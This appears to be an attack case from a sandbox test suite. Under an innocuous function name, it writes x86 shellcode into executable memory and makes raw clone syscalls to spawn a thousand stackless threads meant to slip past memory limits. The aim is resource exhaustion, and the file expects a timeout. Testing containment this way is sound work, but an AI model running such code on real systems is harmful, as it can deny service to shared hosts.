# /// attack
# kind = "attack"
# exercise = "00_warmup/first_call"
# tries = "Makes threads by the number of the call, all on one page of memory, where no bound of memory counts them."
# wall = "crowd"
# must = "timed_out"
# says = "threads"
# through = "said"
# checks = ["FIRST-01"]
# ///
"""A thread that only waits needs no stack; each still takes a number and a stack of the kernel's from everybody (facts
55).
"""

from __future__ import annotations

import ctypes
import mmap
import os
import struct

CLONE, THREAD = 56, 0x3D0F00
MANY = 1000
WAIT = bytes.fromhex("b8220000000f05ebf7")  # mov eax, 34 (pause); syscall; jmp back


def attack() -> None:
    """Start threads that pause; each begins where its stack says that the call returns to."""
    if os.uname().machine != "x86_64":
        return
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    at = ctypes.addressof(ctypes.c_char.from_buffer(page))
    page[: len(WAIT)] = WAIT
    page[2048:2056] = struct.pack("<Q", at)
    libc = ctypes.CDLL(None)
    made = sum(
        libc.syscall(CLONE, THREAD, ctypes.c_void_p(at + 2048), at + 3000, at + 3008, 0) > 0 for _ in range(MANY)
    )
    libc.usleep(500_000)
    if made > 128:
        print(f"BROKE THROUGH: {made} threads", flush=True)


def first_call(client: object, question: str) -> str:
    """Return nothing of use."""
    attack()
    return ""
